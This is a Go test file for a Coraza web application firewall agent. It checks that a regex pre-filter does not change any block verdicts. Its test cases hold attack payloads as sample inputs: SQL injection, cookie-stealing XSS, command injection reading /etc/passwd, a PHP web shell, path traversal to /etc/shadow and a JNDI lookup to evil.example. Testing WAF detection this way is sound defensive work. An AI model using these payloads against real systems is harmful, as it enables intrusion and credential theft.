package corazawaf_test

import (
	"context"
	"io"
	"net/http"
	"net/url"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/zentinelproxy/sidecar/examples/corazawaf"
	"github.com/zentinelproxy/sidecar/protocol"
	"github.com/zentinelproxy/sidecar/sdk"
)

// verdict is everything the agent tells the proxy about one request: the
// request decision and, when it let the request through, the response's.
type verdict struct {
	kind     protocol.DecisionKind
	status   int
	ruleIDs  []string
	custom   string
	response string
}

// decide runs r through h as the SDK would (headers, the body in 64 KiB
// chunks, the response headers of a 200) and returns the verdict.
func decide(t *testing.T, h *corazawaf.Handler, id uint64, r *http.Request) verdict {
	t.Helper()
	ctx := context.Background()
	var body []byte
	if r.Body != nil {
		body, _ = io.ReadAll(r.Body)
	}
	m := &protocol.RequestHeaders{RequestID: id, Method: []byte(r.Method), URI: []byte(r.URL.RequestURI()), HasBody: len(body) > 0}
	m.Headers = append(m.Headers, protocol.Header{Name: []byte("host"), Value: []byte(r.Host)})
	names := make([]string, 0, len(r.Header))
	for k := range r.Header {
		names = append(names, k)
	}
	slices.Sort(names)
	for _, k := range names {
		for _, v := range r.Header[k] {
			m.Headers = append(m.Headers, protocol.Header{Name: []byte(strings.ToLower(k)), Value: []byte(v)})
		}
	}
	if len(body) > 0 {
		m.Headers = append(m.Headers, protocol.Header{Name: []byte("content-length"), Value: []byte(strconv.Itoa(len(body)))})
	}
	m.Metadata.ClientIP, m.Metadata.ClientPort, m.Metadata.Protocol = []byte("10.0.0.7"), 40000, []byte("HTTP/1.1")
	d := new(protocol.Decision)
	if err := h.OnRequestHeaders(ctx, m, d); err != nil {
		t.Fatal(err)
	}
	for i := 0; d.Kind == protocol.DecisionAllow && len(body) > 0; i++ {
		n := min(64<<10, len(body))
		var br sdk.BodyReply
		if err := h.OnRequestBody(ctx, &protocol.BodyChunk{RequestID: id, ChunkIndex: uint32(i), Data: body[:n], IsLast: n == len(body)}, &br); err != nil {
			t.Fatal(err)
		}
		body, d = body[n:], &br.Decision
		if !d.NeedsMore {
			break
		}
	}
	v := verdict{kind: d.Kind, status: d.Status, custom: string(d.Audit.Custom)}
	for _, id := range d.Audit.RuleIDs {
		v.ruleIDs = append(v.ruleIDs, string(id))
	}
	if d.Kind == protocol.DecisionAllow {
		rd := new(protocol.Decision)
		rm := &protocol.ResponseHeaders{RequestID: id, StatusCode: 200, HasBody: true,
			Headers: protocol.Headers{{Name: []byte("content-type"), Value: []byte("application/json")}}}
		if err := h.OnResponseHeaders(ctx, rm, rd); err != nil {
			t.Fatal(err)
		}
		v.response = rd.Kind.String() + " " + string(rd.Audit.Custom)
	}
	return v
}

// longArg is a 4 KiB form argument of letters with s in its middle: the
// inputs on which the @rx pre-filter saves the most, and where a
// pre-filter that dropped a needed regular expression would show.
func longArg(s string) string {
	pad := make([]byte, 2048)
	for i := range pad {
		pad[i] = 'a' + byte(i%26)
	}
	return "comment=" + string(pad) + url.QueryEscape(s) + string(pad)
}

// TestRxPreFilterSameVerdicts: the @rx pre-filter (on in DefaultConfig)
// changes nothing the agent decides or reports. Every request of the
// attack and benign tables, and attacks hidden in long arguments, gets
// the same decision, status, matched rule ids and anomaly score with it
// off and on, in blocking and in detection-only mode (where every
// request runs every phase and reports all it matched).
func TestRxPreFilterSameVerdicts(t *testing.T) {
	if !strings.Contains(corazawaf.Directives(new(corazawaf.DefaultConfig())), "\nSecRxPreFilter On\n") {
		t.Fatalf("DefaultConfig does not turn the @rx pre-filter on:\n%s", corazawaf.Directives(new(corazawaf.DefaultConfig())))
	}
	const form = "application/x-www-form-urlencoded"
	cases := slices.Concat(attacks, benign, []tcase{
		{name: "long benign arg", req: post("/comment", form, longArg("nothing to see here"))},
		{name: "long arg sqli", req: post("/comment", form, longArg("' UNION SELECT password FROM users--"))},
		{name: "long arg xss", req: post("/comment", form, longArg("<script>alert(document.cookie)</script>"))},
		{name: "long arg rce", req: post("/comment", form, longArg(";cat /etc/passwd"))},
		{name: "long arg php", req: post("/comment", form, longArg("<?php system($_GET['c']); ?>"))},
		{name: "long arg lfi", req: post("/comment", form, longArg("../../../../etc/shadow"))},
		{name: "long arg java", req: post("/comment", form, longArg("${jndi:ldap://evil.example/a}"))},
		{name: "cookie sqli", req: get("/", "Cookie", "session=1' or '1'='1")},
		{name: "referer xss", req: get("/", "Referer", "http://x.example/<script>alert(1)</script>")},
		{name: "octet body", req: post("/upload", "application/octet-stream", longArg("x"))},
	})
	for _, mode := range []corazawaf.Mode{corazawaf.ModeBlocking, corazawaf.ModeDetectionOnly} {
		var hs [2]*corazawaf.Handler
		for i, on := range []bool{false, true} {
			cfg := corazawaf.DefaultConfig()
			cfg.Mode, cfg.RxPreFilter = mode, on
			cfg.AllowedContentTypes = []string{form, "multipart/form-data", "application/json", "application/octet-stream"}
			h, err := corazawaf.New(cfg, nil)
			if err != nil {
				t.Fatal(err)
			}
			t.Cleanup(func() { _ = h.Close() })
			hs[i] = h
		}
		flagged := 0
		for i, tc := range cases {
			off := decide(t, hs[0], uint64(i+1), tc.req("http://"+testHost))
			on := decide(t, hs[1], uint64(i+1), tc.req("http://"+testHost))
			if off.kind != on.kind || off.status != on.status || !slices.Equal(off.ruleIDs, on.ruleIDs) ||
				off.custom != on.custom || off.response != on.response {
				t.Errorf("%s, %s: pre-filter off %+v, on %+v", mode, tc.name, off, on)
			}
			if len(on.ruleIDs) > 0 {
				flagged++
			}
		}
		// The comparison means something only if requests were flagged.
		if flagged < len(attacks) {
			t.Errorf("%s: %d requests flagged, want at least the %d attacks", mode, flagged, len(attacks))
		}
	}
}
